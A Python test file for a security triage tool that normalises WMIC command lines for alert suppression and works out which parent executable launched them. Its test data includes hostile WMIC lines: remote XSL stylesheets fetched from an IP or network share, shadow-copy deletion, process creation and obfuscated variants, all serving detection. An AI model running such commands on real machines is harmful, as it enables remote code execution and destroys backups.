r"""The normal form of a line, by which suppressions go, and the path of what started it."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.model import Alert, AssessmentKind, Row
from runner.wmic import TriageContext, assess_line, full_path, shape_of, starter_of
from tests.test_wmic_properties import BUILT_IN, OWN_FILES, REMOTE, lines

JUNK = st.sampled_from([*"\"'^:/\\-,; \t%.@", "csv", "/format:csv", " where ", '""', "format"])
REPORT = r'"C:\Program Files\App\report.xsl"'
AGENT = r"C:\Program Files\App\agent.exe"


@pytest.mark.parametrize(
    ("line", "shape"),
    [
        ("WMIC.exe  OS Get Name,Caption /FORMAT:List", "wmic os get caption,name /format:list"),
        (
            rf"wmic process list brief -format:{REPORT}",
            r'wmic process list brief /format:"c:\program files\app\report.xsl"',
        ),
        (
            r'wmic /node:"SRV-7","SRV-8" /user:CORP\Admin /password:hunter2 os get x /value',
            r"wmic /node:{host} /user:corp\admin /password:{secret} os get x /value",
        ),
        ("wmic /node:localhost os get x", "wmic /node:localhost os get x"),
        (
            "wmic process where ProcessId=4604 get name",
            "wmic process where processid={n} get name",
        ),
        (
            "wmic product where Id='{0A1B2C3D-0000-4000-8000-00000000000F}' get name",
            "wmic product where id={guid} get name",
        ),
        (
            r"wmic /output:C:\Temp\a81F3C2D9.tmp qfe get HotFixID /format:csv",
            r"wmic /output:c:\temp\{tmp} qfe get hotfixid /format:csv",
        ),
        (
            r"wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName /value",
            r"wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname /value",
        ),
        (
            r'wmic os get x /format:"C:\Windows\System32\wbem\en-US\csv.xsl"',
            "wmic os get x /format:csv",
        ),
        ("wmic os get x /format:htable:sortby=Name", "wmic os get x /format:htable:sortby=name"),
    ],
)
def test_line_has_the_shape(line: str, shape: str) -> None:
    assert shape_of(line).text == shape


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (r"wmic os get x /format:C:\a\b.xsl", r"wmic os get x /format:C:\a\c.xsl"),
        (r"wmic os get x /format:C:\a\b1.xsl", r"wmic os get x /format:C:\a\b2.xsl"),
        ("wmic os get x /format:csv", "wmic os get y /format:csv"),
        ("wmic os get x /format:csv", "wmic cpu get x /format:csv"),
        ("wmic os get x", "wmic /node:SRV-1 os get x"),
        (r"wmic /user:corp\a /node:s os get x", r"wmic /user:corp\b /node:s os get x"),
        ("wmic service where name='a' get x", "wmic service where name='b' get x"),
        # The Kelvin sign is no k, and that file is another one.
        ("wmic os get x /format:C:\\k\\a.xsl", "wmic os get x /format:C:\\\u212a\\a.xsl"),
    ],
)
def test_lines_that_differ_in_what_matters_differ_in_shape(one: str, other: str) -> None:
    assert shape_of(one).text is not None
    assert shape_of(one).text != shape_of(other).text


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("", "no command line"),
        ("wmic", "names nothing"),
        ("wmic process call create calc.exe", "changes something"),
        ('wmic process call create "x" /format:csv', "changes something"),
        ("wmic shadowcopy delete", "changes something"),
        ("wmic service where name='a' call startservice", "changes something"),
        ("wmic os get x /format:http://192.0.2.7/a.xsl", "network address"),
        (r"wmic os get x /format:\\192.0.2.7\s\a.xsl", "another machine"),
        (r"wmic os get x /format:%TEMP%\a.xsl", "full path"),
        ("wmic os get x /format:a.xsl", "full path"),
        ("wmic os get x /format:lib/csv.xsl", "full path"),
        (r"wmic os get x /format:C:\Program Files\..\a.xsl", ""),
        (r'wmic os get x /format:"C:\Program Files\..\a.xsl"', "full path"),
        (r"wmic os get x /format:C:\Users\Public\a.xsl", "users may write"),
        (r"wmic os get x /format:C:\Users\ann\a.xsl", "users may write"),
        (r"wmic os get x /format:C:\a\b.xsl:stream.xsl", ""),
        (r"wmic os get x /format:C:\a\*.xsl", "full path"),
        ("wmic os get x /format:", "cut off"),
        (r"wmic os get x /format:C:\Program Fil...", ""),
        ("wmic os get x /format:^h^t^t^p", "full path"),
        (r"wmic os get x /format:csv:a=\\h\s", "unusual parameter"),
        ('wmic os get x /for"mat":http /format:csv', ""),
        ("wmic os where a='f-o-r-m-a-t:b' get x /format:csv", "something like a format switch"),
        (r"C:\Temp\wmic.exe os get x", "where Windows keeps it"),
        ("cmd /c wmic os get x", "could not be read"),
        ("wmic os get x what is this", ""),
        ('wmic os get "x', "could not be read"),
        ("wmic /record:a.xml os get x", "/record"),
        ("wmic os get x\u200b", "nobody sees"),
        ("wmic os get x\nwmic os get y", "nobody sees"),
        ("wmic os get " + "a," * 600, "1000 characters"),
    ],
)
def test_line_that_must_always_be_judged_has_no_shape(line: str, why: str) -> None:
    found = shape_of(line)
    assert found.text is None
    assert why in found.why


@given(lines(REMOTE))
def test_remote_stylesheet_leaves_no_shape_however_it_is_written(line: str) -> None:
    assert shape_of(line).text is None


@given(lines(OWN_FILES))
def test_relative_unresolved_or_open_stylesheet_leaves_no_shape(line: str) -> None:
    shape = shape_of(line).text
    # What is left by full path, in a folder that looks like the built-in one, is named as it is.
    assert shape is None or "\\" in shape.rpartition("/format:")[2]


@given(lines(BUILT_IN), lines(REMOTE))
def test_remote_stylesheet_beside_a_harmless_switch_leaves_no_shape(good: str, bad: str) -> None:
    assert shape_of(f"{good} {bad}").text is None
    assert shape_of(f"{bad} {good}").text is None


@given(lines(REMOTE), st.lists(st.tuples(st.integers(0, 300), JUNK), min_size=1, max_size=4))
def test_line_that_was_tampered_with_has_no_shape_while_it_names_a_remote_stylesheet(
    line: str, junk: list[tuple[int, str]]
) -> None:
    for at, piece in junk:
        line = line[:at] + piece + line[at:]
    judged = assess_line(line)
    is_remote = any(seen.type != "file" for seen in judged.indicators)
    if judged.assessment == AssessmentKind.MALICIOUS or is_remote:
        assert shape_of(line).text is None


@given(st.text())
def test_any_text_has_a_shape_or_a_reason(text: str) -> None:
    found = shape_of(text)
    assert (found.text is None) is bool(found.why)
    assert shape_of(text) == found


@pytest.mark.parametrize("piece", ["/format:", "a-", "1.", "0f", "where a='", "s-1-2"])
def test_shape_of_a_long_line_takes_a_moment(piece: str) -> None:
    for length in (999, 32_767):
        line = f"wmic os where a='{piece * 32_767}"[:length]
        start = time.process_time()
        shape_of(line)
        assert time.process_time() - start < 0.2


# -- what started it -------------------------------------------------------------------------------


def alert(parent: str | None, **raw: str | list[str]) -> Alert:
    row: Row = dict(raw)
    return Alert(id="a", siem="s", search="s", raw=row, parent=parent)


@pytest.mark.parametrize(
    ("parent", "raw", "path"),
    [
        (f'"{AGENT}" -x', {}, AGENT),
        (f"{AGENT} -x", {}, AGENT),
        ("agent.exe -x", {}, None),
        ("", {}, None),
        (r"\\host\s\agent.exe", {}, None),
        (r"C:\a\..\agent.exe", {}, None),
        (rf"{AGENT}\x.exe", {}, rf"{AGENT}\x.exe"),
        ("agent.exe", {"ParentImage": AGENT}, AGENT),
        # The file counts, whatever the command line claims.
        (f'"{AGENT}"', {"ParentImage": r"C:\Temp\evil.exe"}, r"C:\Temp\evil.exe"),
        (f'"{AGENT}"', {"ParentImage": "-"}, None),
        ("x", {"ParentImage": AGENT, "ParentProcessName": r"C:\Temp\evil.exe"}, None),
        ("x", {"ParentImage": AGENT, "ParentProcessName": AGENT.upper()}, AGENT),
        ("x", {"ParentImage": [AGENT, r"C:\Temp\evil.exe"]}, None),
    ],
)
def test_starter_is_the_file_of_the_parent(
    parent: str, raw: dict[str, str | list[str]], path: str | None
) -> None:
    assert starter_of(alert(parent, **raw)) == path


def test_starter_is_unknown_when_the_event_names_another_file() -> None:
    seen = TriageContext(parent=r"C:\Temp\evil.exe")
    assert starter_of(alert(f'"{AGENT}"'), seen) is None
    assert starter_of(alert(f'"{AGENT}"'), TriageContext(parent=AGENT)) == AGENT


@pytest.mark.parametrize(
    "path",
    ["agent.exe", "*", r"C:\*\a.exe", r"..\a.exe", r"\\h\s\a.exe", "C:", r"C:\a\.\b.exe", ""],
)
def test_what_is_no_full_path_is_refused(path: str) -> None:
    assert full_path(path) is None
